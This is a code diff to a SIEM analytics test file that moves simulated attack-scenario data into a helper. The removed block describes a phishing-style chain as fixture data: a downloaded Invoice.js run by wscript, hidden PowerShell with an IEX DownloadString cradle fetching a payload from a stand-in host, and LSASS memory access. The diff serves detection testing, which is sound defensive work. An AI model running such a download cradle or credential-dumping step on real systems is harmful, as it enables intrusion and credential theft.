@@ -23,6 +23,7 @@ from analytics.incidence import build_incidence
 from graphsiem.model import Sighting
 from graphsiem.simulator import DEFAULT_SCENARIOS
 from graphsiem.store.base import EntityPrevalence
+from tests.analytics.cradle_steps import cradle_steps
 from tests.analytics.simulated import simulated_detection
 
 HOUR = 3600.0
@@ -127,14 +128,7 @@ def _daily(name: str, kind: str, label: str, steps: str, pivot: str, days: range
     ]
 
 
-LOWSLOW_STEPS = r"""      - {action: process, parent: explorer, image: 'C:\Windows\System32\wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\{{user}}\Downloads\Invoice.js"', indicator: false}
-      - action: process
-        image: 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
-        command_line: 'powershell.exe -nop -w hidden -enc {{encoded}}'
-        encoded_command: "IEX (New-Object Net.WebClient).DownloadString('http://img-cache-cdn.example/i/logo.png')"
-      - {action: download, url: 'http://img-cache-cdn.example/i/logo.png', content: logo.png loader, size: 500000}
-      - {action: lsass_access, granted_access: '0x1010'}
-"""
+LOWSLOW_STEPS = cradle_steps("http://img-cache-cdn.example/i/logo.png")
 
 ROLLOUT_STEPS = r"""      - {action: process, parent: services, user: system, image: 'C:\Program Files\CorpIT\Deploy\DeployAgent.exe', command_line: '"C:\Program Files\CorpIT\Deploy\DeployAgent.exe" --job greenshot-1.3', indicator: false}
       - {action: download, url: 'http://sccm.corp.example/packages/Greenshot-1.3.msi', content: Greenshot-1.3.msi, size: 3000000, user_agent: 'CorpDeployAgent/3.1', save_to: 'C:\ProgramData\CorpIT\Deploy\cache\Greenshot-1.3.msi'}
